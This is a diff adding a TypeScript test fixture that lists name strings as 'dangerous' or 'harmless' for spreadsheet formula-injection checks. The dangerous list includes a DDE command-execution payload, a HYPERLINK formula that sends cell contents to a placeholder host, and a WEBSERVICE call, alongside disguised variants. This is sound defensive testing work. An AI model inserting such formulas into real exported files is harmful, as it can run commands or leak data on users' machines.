@@ -1,0 +1,47 @@
+/** Names as somebody would type them who wants a bureau's computer to compute them, and names that only look odd. */
+
+export const dangerous: readonly string[] = [
+  "=1+1",
+  "=cmd|'/c calc'!A0",
+  '=HYPERLINK("http://192.0.2.1/?"&A1,"点击")',
+  '=WEBSERVICE("http://192.0.2.1/")',
+  "+1+1",
+  "-1+1",
+  "-5",
+  "@SUM(1,1)",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  "\u0000=1+1",
+  " =1+1",
+  "\u3000=1+1",
+  "\u00a0=1+1",
+  "\ufeff=1+1",
+  "\u200b=1+1",
+  "\t甲",
+  "＝1+1",
+  "＋1",
+  "－1",
+  "＠SUM(1,1)",
+  "=",
+  "-",
+];
+
+export const harmless: readonly string[] = [
+  "",
+  "王小明",
+  "'=1+1",
+  "九(1)班",
+  "1-2",
+  "a=b",
+  "3+4",
+  "x@y.invalid",
+  " 王 小明 ",
+  "“=1”",
+
+  "(−1)",
+  "—",
+  "·",
+  "0012",
+  "{=1}",
+];
